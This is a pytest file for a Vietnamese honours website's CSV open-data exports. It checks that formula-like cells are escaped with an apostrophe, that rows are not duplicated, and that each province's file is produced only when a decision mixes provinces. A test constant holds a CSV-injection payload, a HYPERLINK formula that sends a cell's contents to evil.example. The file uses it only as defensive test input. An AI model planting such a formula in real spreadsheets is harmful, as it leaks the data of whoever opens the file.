"""Open-data exports: no cell of a published spreadsheet opens as a formula (issue 8, point 6); no row twice.

The check refuses such names; the CSV writer neutralises what still arrives
with a leading apostrophe, as OWASP advises. Issue 13: one CSV per decision,
a province's own CSV only where its rows are mixed into a decision with
another province's; no JSON copy of the rows, no compressed copy beside a file.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
from pathlib import Path
from typing import cast

import pytest

from bangvang.core.honours import export, reader
from bangvang.core.honours.addresses import Place
from bangvang.core.honours.model import Decision, HonourEntry, Issuer
from conftest import REPO, Site

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1"]


def _decision(title: str, names: list[str]) -> Decision:
    entries = tuple(
        HonourEntry(stt, "gia_dinh", name, None, None, name, "Xã Thiên Lộc", None, "Tỉnh Hà Tĩnh", stt)
        for stt, name in enumerate(names, start=1)
    )
    return Decision(
        "honours/a.yaml", "honours/a.yaml", "a", "-1/QĐ", (), dt.date(2024, 1, 2), Issuer(HYPERLINK, "tinh"),
        "cong_nhan", "2024", title, (), None, False, entries,
    )  # fmt: skip


def _not_settled(decision: Decision, entry: HonourEntry) -> export.Current:
    return export.NOT_SETTLED


def _records(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_that_would_open_as_a_formula_start_with_an_apostrophe(tmp_path: Path, start: str) -> None:
    decision = _decision(start, [start, "Gia đình ông An"])
    path = tmp_path / "a.csv"
    assert export.write_csv(path, ((decision, e) for e in decision.entries), _not_settled) == 2
    first, second = _records(path)
    assert first["name"] == first["village"] == first["title"] == "'" + start
    assert first["decision"] == "'-1/QĐ"
    assert second["name"] == "Gia đình ông An" and second["title"] == "'" + start
    assert first["stt"] == "1" and first["anchor"] == "a-stt-1" and first["commune"] == "Xã Thiên Lộc"


def test_a_province_earns_its_own_file_only_when_a_decision_mixes_it_with_another() -> None:
    def decision(slug: str, *provinces: str) -> Decision:
        entries = tuple(
            HonourEntry(n, "gia_dinh", f"Gia đình {n}", None, None, None, "Xã A", None, province, n)
            for n, province in enumerate(provinces, start=1)
        )
        return dataclasses.replace(_decision("Gia đình học tập", []), slug=slug, entries=entries)

    alone, again, mixed = decision("a", "Tỉnh Hà Tĩnh"), decision("b", "Tỉnh Hà Tĩnh"), decision("c", "P", "Q", "P")
    rows: dict[str, list[tuple[Decision, HonourEntry]]] = {}
    for d in (alone, again, mixed):
        for entry in d.entries:
            rows.setdefault(entry.province or "", []).append((d, entry))
    grouped = {province: {cast(Place, None): list(reversed(found))} for province, found in rows.items()}
    sources = export.province_sources(grouped, [alone, again, mixed])
    # Hà Tĩnh's rows are two whole decisions' files: listed in site order, no copy of its own.
    assert sources["Tỉnh Hà Tĩnh"] == ([alone, again], False)
    assert sources["P"] == ([mixed], True) and sources["Q"] == ([mixed], True)


def test_published_spreadsheets_hold_no_formula(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    row = "1,gia_dinh,Gia đình ông An,,,Thôn 1,Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh"
    site.decision("a", [row], number="5/QĐ-UBND", title=HYPERLINK, issuer={"name": HYPERLINK, "level": "huyen_xa"})
    # The check is the first line of defence: it refuses the formula outright.
    check = site.check("--strict")
    assert check.code == 1 and "công thức" in check.output, check.output
    # The exports are the second: were the check ever to miss one, no cell may open as a formula.
    findings = reader.text_findings
    monkeypatch.setattr(
        reader,
        "text_findings",
        lambda *args, **kwargs: [f for f in findings(*args, **kwargs) if "công thức" not in f[1]],
    )
    run = site.build()
    assert run.code == 0, run.output
    data = site.out / "vinh-danh/du-lieu"
    (record,) = _records(data / "a.csv")
    assert record["title"] == "'" + HYPERLINK
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in record.values())


def _files(folder: Path) -> set[str]:
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}


def test_each_row_is_exported_once_per_decision_and_once_per_mixed_province(site: Site) -> None:
    row = "{},gia_dinh,Gia đình ông {},,,Thôn 1,{}"
    ha_tinh, nghe_an = "Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh", "Xã Nghi Long,Huyện Nghi Lộc,Tỉnh Nghệ An"
    site.decision("a", [row.format(1, "An", ha_tinh)], number="1/QĐ-UBND")
    site.decision("b", [row.format(1, "Ba", ha_tinh)], number="2/QĐ-UBND")
    mixed = [row.format(1, "Cư", ha_tinh), row.format(2, "Dũng", nghe_an)]
    run = site.build()
    assert run.code == 0, run.output
    data = site.out / "vinh-danh/du-lieu"
    # Hà Tĩnh's rows are whole decisions: no copy of its own, no JSON, nothing compressed beside a file.
    assert _files(data) == {"a.csv", "b.csv", "index.html", "manifest.json"}
    province = site.html("vinh-danh/dia-phuong/tinh-ha-tinh/")
    assert re.search(r'Tải toàn bộ: CSV theo quyết định: <a href="\.\./\.\./du-lieu/[ab]\.csv" download', province)
    assert 'href="../../du-lieu/a.csv" download' in province and 'href="../../du-lieu/b.csv" download' in province
    assert ".json" not in province
    exports = site.html("vinh-danh/du-lieu/")
    assert 'href="tinh/' not in exports and exports.count('href="a.csv"') == 2
    assert re.findall(r'href="[^"]*\.json"', exports) == ['href="manifest.json"']
    decision = site.html("vinh-danh/quyet-dinh/a/")
    assert 'href="../../du-lieu/a.csv" download' in decision and 'du-lieu/a.json"' not in decision

    # A decision listing two provinces: each then has a file of its own rows, in the layout's folder.
    site.decision("c", mixed, number="3/QĐ-UBND")
    run = site.build()
    assert run.code == 0, run.output
    assert _files(data) == {
        "a.csv", "b.csv", "c.csv", "index.html", "manifest.json", "tinh/tinh-ha-tinh.csv", "tinh/tinh-nghe-an.csv"
    }  # fmt: skip
    ha_tinh = _records(data / "tinh/tinh-ha-tinh.csv")
    assert sorted(r["name"] for r in ha_tinh) == ["Gia đình ông An", "Gia đình ông Ba", "Gia đình ông Cư"]
    assert [r["anchor"] for r in _records(data / "tinh/tinh-nghe-an.csv")] == ["c-stt-2"]
    assert 'href="../../du-lieu/tinh/tinh-ha-tinh.csv" download' in site.html("vinh-danh/dia-phuong/tinh-ha-tinh/")
    manifest = json.loads((data / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["complete"] is True
    assert {d["slug"]: d["province_csv"] for d in manifest["decisions"]} == {"a": 1, "b": 1, "c": 2}


def test_every_export_column_is_explained_for_editors() -> None:
    readme = (REPO / "honours/README.md").read_text(encoding="utf-8")
    section = readme.split("## 10. Dữ liệu mở", 1)[1].split("\n## ", 1)[0]
    explained = set(re.findall(r"`([a-z_]+)`", section.split("| Cột | Nghĩa |", 1)[1].split("\n\n", 1)[0]))
    assert set(export.EXPORT_COLUMNS) <= explained, set(export.EXPORT_COLUMNS) - explained
    assert export.EXPORT_COLUMNS[-1] == "anchor"  # the manifest reads it as a row's last cell


def test_nothing_a_host_compresses_is_stored_twice(site: Site) -> None:
    # MkDocs writes sitemap.xml.gz beside sitemap.xml; hosts compress on the fly, so the copy only costs bytes.
    site.decision("a", ["1,gia_dinh,Gia đình ông An,,,Thôn 1,Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh"])
    for attempt in ("cold", "cached"):
        run = site.build()
        assert run.code == 0, run.output
        assert (site.out / "sitemap.xml").is_file() and sorted(site.out.rglob("*.gz")) == [], attempt
